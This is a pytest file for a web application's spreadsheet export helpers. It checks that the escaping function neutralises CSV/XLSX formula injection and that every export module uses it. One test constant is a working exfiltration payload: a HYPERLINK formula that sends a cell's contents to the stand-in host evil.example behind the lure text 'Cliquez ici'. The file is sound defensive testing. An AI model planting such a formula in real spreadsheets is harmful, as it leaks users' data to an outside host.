"""Exports cannot execute: the one rule for every CSV/XLSX cell, and every export goes through it."""

from pathlib import Path

import pytest

from apps.core.spreadsheet import safe_cell, unsafe_cell

APPS = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez ici")'


@pytest.mark.parametrize(
    "value, expected",
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+33 6 00 00 00 00", "'+33 6 00 00 00 00"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("- une puce", "'- une puce"),
        ("-1234,56", "-1234,56"),  # a negative amount in a French CSV stays a number
        ("-0.53", "-0.53"),
        ("+5", "+5"),
        (-1234, -1234),  # numbers stay numbers (XLSX)
        (-0.5, -0.5),
        (None, None),
        ("Mission locale", "Mission locale"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_every_export_writes_through_the_safe_helper():
    """No bare csv.writer outside apps/core/spreadsheet.py; every module writing XLSX uses safe_row()."""
    offenders = []
    for path in APPS.rglob("*.py"):
        if "tests" in path.parts or path.name == "spreadsheet.py":
            continue
        text = path.read_text()
        if "csv.writer(" in text or ("openpyxl" in text and "safe_row(" not in text):
            offenders.append(str(path.relative_to(APPS)))
    assert offenders == []


@pytest.mark.parametrize(
    "value, expected",
    [
        ("'" + HYPERLINK, HYPERLINK),
        ("'- une puce", "- une puce"),
        ("'-1234,56", "'-1234,56"),  # safe_cell never writes this: a text the person typed
        ("'abc", "'abc"),
        ("l'atelier", "l'atelier"),
        ("", ""),
    ],
)
def test_unsafe_cell_reads_back_what_safe_cell_wrote(value, expected):
    assert unsafe_cell(value) == expected
